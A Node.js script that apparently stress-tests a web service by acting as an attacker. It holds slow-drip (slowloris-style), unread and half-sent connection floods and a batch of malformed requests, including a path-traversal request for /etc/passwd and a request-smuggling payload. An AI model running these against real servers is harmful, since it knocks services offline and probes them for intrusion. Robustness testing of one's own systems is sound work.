// A single attacker; also runs within a container. Arguments: host, port, host name to request, and `tls` or `plain`.
// Ends after a while and reports what it did.
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';

const [host = '', port = '', name = '', kind = ''] = process.argv.slice(-4);
const leastMs = 20_000;
const drips = 300;
const unread = 30;
const halfSent = 300;
const malformed = 5_000;
const everyMs = 10;
const timeoutMs = 2_000;

function open() {
  const socket =
    kind === 'tls'
      ? connectTls({ host, port: Number(port), servername: name.split(':')[0], rejectUnauthorized: false })
      : connect({ host, port: Number(port) });
  // Errors on an attacker's socket are expected.
  return socket.on('error', () => undefined);
}

const began = Date.now();
const end = () => Date.now() - began > leastMs;

/**
 * Sends something, reads no response and never closes; with `more` it continues slowly.
 * @param {string} text @param {string} [more]
 */
async function hold(text, more) {
  let socket = open();
  if (!more) socket.pause();
  socket.write(text);
  while (!end()) {
    await sleep(500);
    if (more && socket.destroyed) socket = open();
    if (more) socket.write(more);
  }
  socket.destroy();
}

const nonsense = [
  '\u0016\u0003\u0001nonsense',
  'GET / HTTP/9.9\r\n\r\n',
  'GET / HTTP/1.1\r\n\r\n',
  `GET /\0 HTTP/1.1\r\nhost: ${name}\r\n\r\n`,
  `GET /%zz/..%2f..%2fetc/passwd HTTP/1.1\r\nhost: ${name}\r\nconnection: close\r\n\r\n`,
  `POST / HTTP/1.1\r\nhost: ${name}\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /`,
  `GET / HTTP/1.1\r\nhost: ${name}\r\nx: ${'y'.repeat(100_000)}\r\n\r\n`,
  `GET / HTTP/1.1\r\nhost: ${name}\r\nhost: other.example\r\nconnection: close\r\n\r\n`,
];
async function sendNonsense() {
  for (let sent = 0; sent < malformed; sent += 1) {
    const socket = open();
    socket.end(nonsense[sent % nonsense.length] ?? '');
    socket.resume();
    const timer = setTimeout(() => socket.destroy(), timeoutMs);
    socket.once('close', () => clearTimeout(timer));
    await sleep(everyMs);
  }
}

/**
 * Several such callers, one after another.
 * @param {number} length
 * @param {() => Promise<void>} act
 */
const callers = (length, act) =>
  Array.from({ length }, async (_, index) => {
    await sleep(index * 3 * everyMs);
    await act();
  });

await Promise.all([
  ...callers(drips, () => hold(`GET / HTTP/1.1\r\nhost: ${name}\r\nx: `, 'y')),
  ...callers(unread, () => hold(`GET /materials HTTP/1.1\r\nhost: ${name}\r\n\r\n`.repeat(50))),
  ...callers(halfSent, () =>
    hold(
      `POST /api/quotes HTTP/1.1\r\nhost: ${name}\r\ncontent-type: application/json\r\ncontent-length: 5000\r\n\r\n{`,
    ),
  ),
  sendNonsense(),
]);
console.log(
  `${drips} that drip, ${unread} that read nothing, ${halfSent} half-sent and ${malformed} malformed connections in ${Math.round((Date.now() - began) / 1_000)} s`,
);
process.exit();
